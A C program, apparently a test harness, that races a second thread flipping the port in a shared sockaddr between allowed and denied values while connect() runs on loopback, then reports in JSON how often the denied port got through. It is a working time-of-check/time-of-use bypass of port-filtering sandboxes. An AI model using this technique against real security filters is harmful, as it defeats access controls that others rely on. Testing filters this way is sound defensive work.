/* TOCTOU attack on the sockaddr: a second thread flips the port between an allowed and a
 * denied value while the first thread calls connect() on that same buffer.
 * usage: toctou ALLOWED_PORT DENIED_PORT ITERATIONS SECONDS  -> one JSON line */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static struct sockaddr_in addr;
static volatile int stop;
static unsigned short p_allowed, p_denied;

static void *flipper(void *arg) {
    (void)arg;
    while (!stop) {
        addr.sin_port = p_allowed;
        __atomic_thread_fence(__ATOMIC_SEQ_CST);
        addr.sin_port = p_denied;
        __atomic_thread_fence(__ATOMIC_SEQ_CST);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 5) return 2;
    p_allowed = htons(atoi(argv[1]));
    p_denied = htons(atoi(argv[2]));
    long iterations = atol(argv[3]);
    double seconds = atof(argv[4]);
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    addr.sin_port = p_allowed;
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    struct timespec t0, now;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    long done = 0, connected = 0, got_allowed = 0, got_denied = 0;
    for (; done < iterations; done++) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        if ((now.tv_sec - t0.tv_sec) + (now.tv_nsec - t0.tv_nsec) / 1e9 > seconds) break;
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&addr, sizeof addr) == 0) {
            char buf[32] = {0};
            connected++;
            struct timeval tv = {2, 0};
            setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
            if (read(s, buf, sizeof buf - 1) > 0) {
                if (!strncmp(buf, "ALLOWED", 7)) got_allowed++;
                if (!strncmp(buf, "DENIED", 6)) got_denied++;
            }
        }
        close(s);
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("{\"iterations\": %ld, \"connected\": %ld, \"allowed\": %ld, \"denied\": %ld}\n",
           done, connected, got_allowed, got_denied);
    return 0;
}
